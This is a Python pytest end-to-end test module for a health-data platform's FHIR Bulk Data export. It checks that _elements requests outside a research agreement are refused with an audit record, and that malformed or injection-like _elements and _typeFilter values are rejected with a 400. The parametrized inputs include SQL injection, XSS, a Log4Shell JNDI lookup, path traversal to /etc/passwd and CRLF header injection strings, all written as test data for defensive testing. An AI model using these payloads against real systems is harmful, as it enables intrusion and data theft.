"""Attacks through ``_elements`` and ``_typeFilter`` of a Bulk Data kick-off, on the running platform.

``_elements`` can only narrow what the project's agreement allows: an element
outside it is the policy's refusal (403, an OperationOutcome, an audited
denial), not a wider export. A ``_typeFilter`` outside the supported subset, or
text that looks like an injection, is a 400 OperationOutcome: no job is queued
and nothing is silently ignored. Never a 5xx.
"""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from tests.e2e.test_research_export import apply, kickoff, researcher, review
from tests.integration.records.support import logged_event

TYPES = ["Condition", "Observation", "Patient"]


@pytest.fixture(scope="module")
def project(settings, token, documents) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    created = apply(settings, token, documents, types=TYPES, elements={"Condition": ["code", "onset"]})
    assert review(settings, token, created["id"], "approve").status_code == 200
    return created


def refused(r, status: int) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    assert r.status_code == status, r.text
    assert "Content-Location" not in r.headers  # no job
    outcome = r.json()
    assert outcome["resourceType"] == "OperationOutcome" and outcome["issue"]
    return outcome


def test_elements_outside_the_agreement_are_audited_refusals(project, settings, token) -> None:  # type: ignore[no-untyped-def]
    asks = ["Condition.recorder", "Condition.code,Condition.note", "MedicationRequest.status", "recorder",
            "Patient.gender,Encounter.reasonCode"]
    answers = [kickoff(settings, token, project["id"], _elements=e) for e in asks]
    for r in answers:
        outcome = refused(r, 403)
        assert "export_element_not_in_agreement" in r.text, outcome
    event = logged_event(settings, token, answers[1].headers["X-Healthgov-Event-Id"])
    assert event["kind"] == "denial" and "export_element_not_in_agreement" in event["decision"]["reasons"]
    assert event["details"]["project"] == project["id"] and "Condition.note" in event["details"]["elements"]
    # Within the agreement the same export is accepted (and then cancelled: nothing more is needed of it).
    ok = kickoff(settings, token, project["id"], _elements="Condition.code,Patient.gender")
    assert ok.status_code == 202, ok.text
    assert httpx.delete(ok.headers["Content-Location"], headers=researcher(token), timeout=30).status_code == 202


@pytest.mark.parametrize("elements", [
    "Patient.name.given", "Patient.", "patient.gender", "Condition.code;DROP TABLE records_project",
    "Condition.code' OR '1'='1", "<script>alert(1)</script>", ",", "Condition.code%00", "x" * 5000,
    ",".join(f"Condition.e{i}" for i in range(200)), "Observation.code",  # Observation is not exported
])
def test_malformed_elements_are_refused(project, settings, token, elements: str) -> None:  # type: ignore[no-untyped-def]
    params = [("_elements", elements)] + ([("_type", "Condition,Patient")] if elements == "Observation.code" else [])
    refused(kickoff(settings, token, project["id"], params), 400)


@pytest.mark.parametrize("query", [
    "Condition?_lastUpdated=ge2020-01-01", "Condition?subject=Patient/123", "Condition?code:not=44054006",
    "Condition?_include=Condition:subject", "Observation?value-quantity=gt5", "Observation?date=ne2021",
    "Observation?date=2021-01-01", "Observation?_has:Condition:subject:code=1", "Patient?name=Zhang",
    "Condition?code=' OR 1=1--", "Condition?code=1); DROP TABLE records_record;--",
    "Condition?code={\"$ne\":null}", "Condition?code=${jndi:ldap://x/a}", "Condition?code=../../etc/passwd",
    "Condition?code=http://snomed.info/sct|4405<script>", "Condition?code=%00", "Observation?status=final\r\nX: y",
    "Condition", "Condition?", "?code=1", "condition?code=1", "Condition?code=" + "9" * 300,
    "MedicationRequest?status=active",  # a type this export does not include
    ",".join(["Condition?code=1"] * 30),
])
def test_unsupported_or_injection_looking_type_filters_are_refused(project, settings, token, query: str) -> None:  # type: ignore[no-untyped-def]
    outcome = refused(kickoff(settings, token, project["id"], _typeFilter=query), 400)
    assert outcome["issue"][0]["code"] == "not-supported" and "_typeFilter" in outcome["issue"][0]["diagnostics"]
